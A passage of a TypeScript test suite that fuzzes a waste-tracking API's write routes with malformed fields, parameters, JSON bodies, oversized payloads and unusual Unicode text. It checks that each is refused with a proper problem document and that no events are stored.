  ) {}

  async fields(c: FieldCase): Promise<void> {
    const response = await this.t.http
      .post(c.spec.path)
      .set('Authorization', `Bearer ${c.spec.token}`)
      .set('Idempotency-Key', this.keys.next('fuzz'))
      .set('Content-Type', 'application/json')
      .send(toJson(c.body));
    this.record(`${c.spec.route} ${c.note}`, response, judge(response, { fields: c.fields }));
  }

  async raw(c: RawCase): Promise<void> {
    let request = this.t.http
      .post(c.spec.path)
      .set('Authorization', `Bearer ${c.spec.token}`)
      .set('Idempotency-Key', this.keys.next('fuzz-raw'));
    if (c.contentType !== null) request = request.set('Content-Type', c.contentType);
    const response = await (c.text === '' ? request : request.send(c.text));
    this.record(
      `${c.spec.route} ${c.note}`,
      response,
      judge(response, c.rule ? { status: 400, rule: c.rule } : {}),
    );
  }

  async param(c: ParamCase): Promise<void> {
    const response = await this.t.http
      .post(c.path)
      .set('Authorization', `Bearer ${c.spec.token}`)
      .set('Idempotency-Key', this.keys.next('fuzz-param'))
      .send(c.spec.body);
    this.record(
      `${c.spec.route} ${c.note}`,
      response,
      judge(response, { status: 400, rule: c.rule, fields: [c.field] }),
    );
  }

  /** The field cases of one route as items of one POST /v1/commands: 200, each item a 400 naming its field. */
  async bulk(spec: Spec, cases: readonly FieldCase[]): Promise<void> {
    const commands = cases.map((c) => ({
      type: spec.bulkType,
      idempotencyKey: this.keys.next('fuzz-bulk'),
      body: raw(toJson({ ...(c.body as object), ...spec.params })),
    }));
    const response = await this.t.http
      .post('/v1/commands')
      .set('Authorization', `Bearer ${spec.token}`)
      .set('Content-Type', 'application/json')
      .send(toJson({ commands }));
    this.requests += 1;
    if (response.status !== 200) {
      this.failures.push({
        request: `bulk ${spec.route}`,
        answer: summary(response),
        why: `status ${response.status}, expected 200`,
      });
      return;
    }
    (response.body.results as { status: number; body: Record<string, unknown> }[]).forEach((result, i) => {
      const fake = {
        status: result.status,
        body: result.body,
        headers: { 'content-type': 'application/problem+json' },
      } as unknown as Response;
      const why = judge(fake, { fields: cases[i].fields });
      if (why)
        this.failures.push({
          request: `bulk item ${spec.bulkType} ${cases[i].note}`,
          answer: summary(fake),
          why,
        });
    });
  }

  record(request: string, response: Response, why: string | null): void {
    this.requests += 1;
    if (why) this.failures.push({ request, answer: summary(response), why });
  }

  /** Fails listing every failing sample, grouped by why (at most 3 examples each). */
  expectNoFailures(): void {
    if (this.failures.length === 0) return;
    const groups = new Map<string, Failure[]>();
    for (const f of this.failures) {
      const key = f.why.replace(/\(named: .*\)/, '').replace(/rule \S+/, 'rule …');
      groups.set(key, [...(groups.get(key) ?? []), f]);
    }
    const report = [...groups.entries()]
      .map(
        ([why, list]) =>
          `${list.length}× ${why}\n${list
            .slice(0, 3)
            .map((f) => `    ${f.request}\n      → ${f.answer}`)
            .join('\n')}`,
      )
      .join('\n');
    throw new Error(
      `${this.failures.length} of ${this.requests} malformed requests were not refused properly:\n${report}`,
    );
  }
}

// ---------------------------------------------------------------------------------------------------

const SUITE = 'fuzz';
const DEEP_ROUTES = ['POST /v1/parties', 'POST /v1/batches/{code}/split', 'POST /v1/manifests/{no}/receipt'];

const RUNS: Record<TestStore, { fields: number; params: number; bulk: number; raw: boolean }> = {
  sqlite: { fields: 40, params: 12, bulk: 3, raw: true },
  postgres: { fields: 8, params: 3, bulk: 1, raw: false },
};

describeEachStore(SUITE, `${SUITE}: malformed requests on every write path (%s)`, (kind) => {
  const app = seededApp(kind, SUITE, __filename, 'fuzz');
  let targets: Targets;
  let all: Spec[];
  let start: bigint;
  const keys = new Keys(`fuzz-${kind}`);
  const runs = RUNS[kind];

  beforeAll(async () => {
    targets = await prepareTargets(app.build);
    all = specs(targets);
    start = await app.t.headPosition();
  });

  it(`malformed fields (${runs.fields} samples per route): 400 naming each malformed field`, async () => {
    const fuzzer = new Fuzzer(app.t, keys);
    for (const [i, spec] of all.entries()) {
      for (const c of fc.sample(fieldCase(spec), { seed: SEED + i, numRuns: runs.fields }))
        await fuzzer.fields(c);
    }
    fuzzer.expectNoFailures();
  });

  it('malformed path parameters: 400 naming the parameter (a mistyped trace code is invalid, not unknown)', async () => {
    const fuzzer = new Fuzzer(app.t, keys);
    for (const [i, spec] of all.entries()) {
      if (spec.badParams.length === 0) continue;
      for (const c of fc.sample(paramCase(spec), { seed: SEED + 100 + i, numRuns: runs.params }))
        await fuzzer.param(c);
    }
    fuzzer.expectNoFailures();
  });

  it('malformed items of POST /v1/commands: 200, each item a 400 naming its field', async () => {
    const fuzzer = new Fuzzer(app.t, keys);
    for (const [i, spec] of all.entries()) {
      for (let n = 0; n < runs.bulk; n++) {
        await fuzzer.bulk(spec, fc.sample(fieldCase(spec), { seed: SEED + 200 + i * 10 + n, numRuns: 5 }));
      }
    }
    fuzzer.expectNoFailures();
  });

  for (const [group, title] of [
    ['not JSON', 'invalid JSON text, an empty JSON body, prototype keys: 400 problem document'],
    [
      'JSON but not an object',
      'JSON that is not an object (array, string, number, null, true, nothing): 400 problem document',
    ],
    ['deeply nested', 'deeply nested JSON (64 to 100,000 levels): 400 problem document, never 5xx'],
    ['not JSON content', 'other content types (text, form, XML, octet stream): 4xx problem document'],
    [
      'over the JSON limits',
      'bodies past the JSON limits (keys, elements, depth, values, a key twice, a BOM): 400 naming the rule',
    ],
  ] as const) {
    if (runs.raw)
      it(title, async () => {
        const fuzzer = new Fuzzer(app.t, keys);
        // deep nesting is slow to refuse: three routes (no parameter, a trace code, a manifest number) stand for all
        const routes = group === 'deeply nested' ? all.filter((s) => DEEP_ROUTES.includes(s.route)) : all;
        for (const spec of routes) for (const c of rawCases(spec, group)) await fuzzer.raw(c);
        fuzzer.expectNoFailures();
      });
  }

  if (runs.raw)
    it('a body over the size limit: 413 problem document', async () => {
      const spec = all.find((s) => s.route === 'POST /v1/batches') as Spec;
      const fuzzer = new Fuzzer(app.t, keys);
      await fuzzer.raw({
        kind: 'raw',
        spec,
        contentType: 'application/json',
        text: `{"description":"${'x'.repeat(9 * 1024 * 1024)}"}`,
        note: '9 MiB body',
      });
      fuzzer.expectNoFailures();
    });

  it('POST /v1/commands itself malformed: 400 naming commands', async () => {
    const fuzzer = new Fuzzer(app.t, keys);
    const spec = all.find((s) => s.route === 'POST /v1/batches') as Spec;
    for (const [note, body] of [
      ['no commands', {}],
      ['commands not an array', { commands: { type: 'generate-waste' } }],
      ['commands empty', { commands: [] }],
      ['an item not an object', { commands: ['generate-waste'] }],
      ['an item null', { commands: [null] }],
      [
        'extra field',
        { commands: [{ type: 'generate-waste', idempotencyKey: 'k', body: batchBody() }], dryRun: true },
      ],
    ] as const) {
      const response = await app.t.http
        .post('/v1/commands')
        .set('Authorization', `Bearer ${spec.token}`)
        .send(body);
      fuzzer.record(
        `POST /v1/commands ${note}`,
        response,
        judge(response, { status: 400, fields: [note === 'extra field' ? 'dryRun' : 'commands'] }),
      );
    }
    fuzzer.expectNoFailures();
  });

  it('appended nothing over the whole run (the head has not moved)', async () => {
    const added = await appendedSince(app.t, start);
    expect(added.map((e) => `${e.stream} ${e.type}`)).toEqual([]);
    await expectHeadUnchanged(app.t, start);
  });
});

describeEachStore(
  `${SUITE} (free text)`,
  `${SUITE}: free text is stored as NFC text or refused as invalid-text, never a 5xx (%s)`,
  (kind) => {
    const app = seededApp(kind, `${SUITE} (free text)`, __filename, 'fuzz-text');
    let start: bigint;
    const keys = new Keys(`fuzz-text-${kind}`);
    const texts = [...NASTY_STRINGS, 'Cafe\u0301 再生', 'a\u0085b', 'del\u007f'];

    beforeAll(async () => {
      start = await app.t.headPosition();
    });

    it.each(texts.map((s, i) => [show(s), s, i] as const))('%s', async (_label, text, i) => {
      // a party name and a batch description: any text up to their length is valid, anything else is not text
      const problem = textProblem(text);
      const stored = text.normalize('NFC').trim();
      const uscc = extraUscc('330106', 800 + i);
      const party = await send(
        app.t,
        '/v1/parties',
        app.t.adminToken,
        { uscc, name: text, roles: ['generator'], districtCode: '330106' },
        keys.next('party'),
      );
      const key = keys.next('batch');
      const batch = await send(
        app.t,
        '/v1/batches',
        app.world.tokens.generator,
        { ...batchBody(1), description: text },
        key,
      );
      if (problem) {
        for (const [answer, field] of [
          [party, 'name'],
          [batch, 'description'],
        ] as const) {
          expect(answer.status).toBe(400);
          expect(problemShapeErrors(answer.headers['content-type'], answer.body, 400)).toEqual([]);
          expect(answer.body.errors).toContainEqual(expect.objectContaining({ field, rule: 'invalid-text' }));
        }
        return;
      }
      expect(party.status).toBe(201);
      expect(party.body.name).toBe(stored);
      const [registered] = await streamEvents(app.t, partyStream(uscc));
      expect(registered.data.name).toBe(stored);
      expect(batch.status).toBe(201);
      const [generated] = await streamEvents(app.t, batchStream(batch.body.traceCode));
      expect(generated.data.description).toBe(stored);
      // the same request under its key is recognised as the same (the request hash of the text is stable)
      const again = await send(
        app.t,
        '/v1/batches',
        app.world.tokens.generator,
        { ...batchBody(1), description: text },
        key,
      );
      expect({ status: again.status, body: again.body }).toEqual({ status: 201, body: batch.body });
    });

    it('the same text classes as bulk items: each item 400 invalid-text naming its field', async () => {
      const bad = texts.filter((text) => textProblem(text) !== undefined);
      expect(bad.length).toBeGreaterThanOrEqual(6);
      const response = await app.t.http
        .post('/v1/commands')
        .set('Authorization', `Bearer ${app.world.tokens.generator}`)
        .send({
          commands: bad.map((text) => ({
            type: 'generate-waste',
            idempotencyKey: keys.next('bulk-text'),
            body: { ...batchBody(1), description: text },
          })),
        });
      expect(response.status).toBe(200);
      for (const result of response.body.results as { status: number; body: { errors?: unknown[] } }[]) {
        expect(result.status).toBe(400);
        expect(result.body.errors).toContainEqual(
          expect.objectContaining({ field: 'description', rule: 'invalid-text' }),
        );
      }
    });

    it('text in a refused request does not break the problem document', async () => {
      for (const text of texts) {
        const refused = await send(
          app.t,
          '/v1/batches',
          app.world.tokens.generator,
          { ...batchBody(1), description: text, occurredAt: text },
          keys.next('refused'),
        );
        expect(refused.status).toBe(400);
        expect(problemShapeErrors(refused.headers['content-type'], refused.body, 400)).toEqual([]);
      }
    });

    it('the read models still advance after the run (no text stopped a projection)', async () => {
      const head = await app.t.headPosition();
      expect(head).toBeGreaterThan(start);
      const probe = await send(
        app.t,
        '/v1/batches',
        app.world.tokens.generator,
        batchBody(1),
        keys.next('probe'),
      );
      expect(probe.status).toBe(201);
      const read = await app.t.http
        .get(`/v1/batches/${probe.body.traceCode}?minPosition=${probe.body.position}`)
        .set('Authorization', `Bearer ${app.world.tokens.generator}`);
      expect(read.status).toBe(200);
      const health = await app.t.http.get('/health');
      expect(health.status).toBe(200);
    });
  },
);
